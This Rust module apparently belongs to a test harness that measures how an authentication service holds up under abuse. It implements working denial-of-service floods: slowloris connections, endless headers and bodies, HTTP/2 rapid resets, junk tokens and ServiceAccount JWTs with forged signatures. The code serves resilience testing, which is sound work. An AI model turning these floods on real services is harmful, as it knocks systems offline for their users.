//! The floods: what a stranger does to a port, from an address of its own, for a time. One thread, which has what the good
//! load and the others leave of its core.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use clap::ValueEnum;
use envoy_types::pb::envoy::service::auth::v3::authorization_client::AuthorizationClient;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tonic::transport::Endpoint;

use super::{good, http2, tls};

/// What is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// Connections that say nothing
    Idle,
    /// Connections that say a byte each second
    Slow,
    /// Connections that are opened and reset
    Connections,
    /// Heads as large as they may be, without an end
    Heads,
    /// Bodies, or messages, without an end
    Bodies,
    /// HTTP/2 streams that are reset at once
    Resets,
    /// Checks of tokens that are none
    Junk,
    /// Callers with a ServiceAccount token that nobody signed
    Forged,
}

impl Kind {
    /// How many connections do it at once.
    pub fn connections(self) -> usize {
        match self {
            Self::Idle => 10_000,
            Self::Slow | Self::Heads | Self::Bodies => 1_000,
            Self::Connections | Self::Resets | Self::Junk | Self::Forged => 64,
        }
    }

    /// Whether a connection that was closed waits for a second before it is opened again.
    fn rests(self) -> bool {
        matches!(self, Self::Idle | Self::Slow)
    }
}

/// What a port speaks.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Wire {
    Http,
    Grpc,
    Tls,
}

/// What a flood came to.
#[derive(Debug, Default, Deserialize, Serialize)]
pub struct Done {
    /// Connections opened.
    pub opened: u64,
    /// Requests, or calls, sent: as far as they are counted one by one.
    pub requests: u64,
}

/// Where and how.
#[derive(Clone)]
pub struct Attack {
    pub kind: Kind,
    pub wire: Wire,
    pub to: SocketAddr,
    pub from: IpAddr,
    /// A genuine ServiceAccount token, to forge others after.
    pub jwt: Option<String>,
}

#[derive(Default)]
struct Counts {
    opened: AtomicU64,
    requests: AtomicU64,
}

/// The flood itself, in its own process: prints what it came to.
pub fn main(attack: &Attack, time: Duration) -> anyhow::Result<()> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let counts = Arc::new(Counts::default());
    let begun = Instant::now();
    runtime.block_on(async {
        for nth in 0..attack.kind.connections() {
            tokio::spawn(repeat(attack.clone(), nth as u64, counts.clone()));
            if nth % 50 == 49 {
                tokio::task::yield_now().await;
            }
        }
        tokio::time::sleep(time.saturating_sub(begun.elapsed())).await;
    });
    let count = |of: &AtomicU64| of.load(Ordering::Relaxed);
    let done = Done { opened: count(&counts.opened), requests: count(&counts.requests) };
    println!("{}", serde_json::to_string(&done)?);
    // Without the shutdown of ten thousand tasks.
    std::process::exit(0)
}

async fn repeat(attack: Attack, nth: u64, counts: Arc<Counts>) {
    loop {
        let failed = once(&attack, nth, &counts).await.is_err();
        if attack.kind.rests() {
            tokio::time::sleep(Duration::from_secs(1)).await;
        } else if failed {
            // The peer has closed it, or has no room: as fast as a client that means harm.
            tokio::time::sleep(Duration::from_millis(5)).await;
        } else {
            tokio::task::yield_now().await;
        }
    }
}

/// One connection, until it ends.
async fn once(attack: &Attack, nth: u64, counts: &Counts) -> anyhow::Result<()> {
    if attack.kind == Kind::Junk && attack.wire == Wire::Grpc {
        return junk_calls(attack, nth, counts).await;
    }
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    socket.bind(SocketAddr::new(attack.from, 0))?;
    let stream = socket.connect(attack.to).await?;
    counts.opened.fetch_add(1, Ordering::Relaxed);
    // A reset leaves no port behind that could not be used again for a minute.
    stream.set_zero_linger()?;
    match (attack.kind, attack.wire) {
        (Kind::Connections, _) => Ok(()),
        (Kind::Idle, _) => drain(stream).await,
        (Kind::Slow, wire) => {
            let begin = match wire {
                Wire::Http => b"GET /auth HTTP/1.1\r\nX-Slow: ".to_vec(),
                Wire::Grpc => [http2::PREFACE, &http2::begun_headers()].concat(),
                // The begin of a ClientHello.
                Wire::Tls => vec![22, 3, 1, 2, 0, 1, 0, 1],
            };
            slowly(stream, &begin).await
        }
        (Kind::Heads | Kind::Bodies, Wire::Tls) => {
            let stream = tls::connect(stream).await?;
            hang(stream, &unfinished(attack.kind, "/validate/apitoken", 8 << 20)).await
        }
        (kind, Wire::Grpc) => {
            let frames = match kind {
                Kind::Heads => http2::endless_headers(),
                Kind::Resets => http2::rapid_resets(),
                _ => http2::unfinished_calls(),
            };
            hang(stream, &[http2::PREFACE, &frames].concat()).await
        }
        (Kind::Bodies, _) => endless_body(stream).await,
        (Kind::Junk, _) => ask(stream, counts, |n| junk(nth, n)).await,
        (Kind::Forged, _) => ask(stream, counts, |n| forged(attack.jwt.as_deref(), nth, n)).await,
        (_, _) => hang(stream, &unfinished(Kind::Heads, "/auth", 0)).await,
    }
}

/// A head or a body that lacks its end.
fn unfinished(kind: Kind, path: &str, length: usize) -> Vec<u8> {
    const HEAD: usize = 15 << 10;
    let head = format!("POST {path} HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n");
    let mut all = match kind {
        Kind::Heads => return format!("{head}X-Large: {}", "x".repeat(HEAD)).into_bytes(),
        _ => format!("{head}Content-Length: {length}\r\n\r\n").into_bytes(),
    };
    all.resize(all.len() + length.saturating_sub(1), b' ');
    all
}

async fn drain(mut stream: impl AsyncRead + Unpin) -> anyhow::Result<()> {
    let mut space = [0; 4096];
    while stream.read(&mut space).await? > 0 {}
    Ok(())
}

async fn slowly(stream: TcpStream, begin: &[u8]) -> anyhow::Result<()> {
    let (read, mut write) = stream.into_split();
    write.write_all(begin).await?;
    let say = async {
        loop {
            tokio::time::sleep(Duration::from_secs(1)).await;
            write.write_all(b"x").await?;
        }
    };
    tokio::select! {
        said = say => said,
        drained = drain(read) => drained,
    }
}

/// Sends all that is taken, and waits for the end.
async fn hang(stream: impl AsyncRead + AsyncWrite, bytes: &[u8]) -> anyhow::Result<()> {
    let (read, mut write) = tokio::io::split(stream);
    let send = async {
        write.write_all(bytes).await?;
        write.flush().await?;
        std::future::pending().await
    };
    tokio::select! {
        sent = send => sent,
        drained = drain(read) => drained,
    }
}

async fn endless_body(stream: TcpStream) -> anyhow::Result<()> {
    let (read, mut write) = stream.into_split();
    let send = async {
        write.write_all(b"POST /auth HTTP/1.1\r\nHost: t\r\nContent-Length: 99999999999\r\n\r\n").await?;
        let piece = vec![b'x'; 64 << 10];
        loop {
            write.write_all(&piece).await?;
        }
    };
    tokio::select! {
        sent = send => sent,
        drained = drain(read) => drained,
    }
}

/// Sends one request after the other, each when the one before was answered.
async fn ask(mut stream: TcpStream, counts: &Counts, request: impl Fn(u64) -> String) -> anyhow::Result<()> {
    stream.set_nodelay(true)?;
    let mut answer = [0; 4096];
    for n in 0.. {
        stream.write_all(request(n).as_bytes()).await?;
        // Answers are small, and come in one piece.
        anyhow::ensure!(stream.read(&mut answer).await? > 0, "closed");
        counts.requests.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}

fn junk_token(nth: u64, n: u64) -> String {
    format!("tw_{:078}", (nth << 32) + n)
}

fn junk(nth: u64, n: u64) -> String {
    format!("GET /auth HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer {}\r\n\r\n", junk_token(nth, n))
}

/// A ServiceAccount token of the right issuer, for the right audience, with a signature of nobody's.
fn forged(jwt: Option<&str>, nth: u64, n: u64) -> String {
    let head = jwt.and_then(|jwt| jwt.rsplit_once('.')).map_or("e30.e30", |(head, _)| head);
    let mut signature = [7; 256];
    signature[..8].copy_from_slice(&nth.to_be_bytes());
    signature[8..16].copy_from_slice(&n.to_be_bytes());
    let signature = URL_SAFE_NO_PAD.encode(signature);
    let body = r#"{"token":"junk"}"#;
    format!(
        "POST /v1/verify HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer {head}.{signature}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

async fn junk_calls(attack: &Attack, nth: u64, counts: &Counts) -> anyhow::Result<()> {
    let endpoint = Endpoint::from_shared(format!("http://{}", attack.to))?.local_address(Some(attack.from));
    let mut client = AuthorizationClient::new(endpoint.connect().await?);
    counts.opened.fetch_add(1, Ordering::Relaxed);
    for n in 0.. {
        client.check(good::check(&junk_token(nth, n))).await?;
        counts.requests.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}
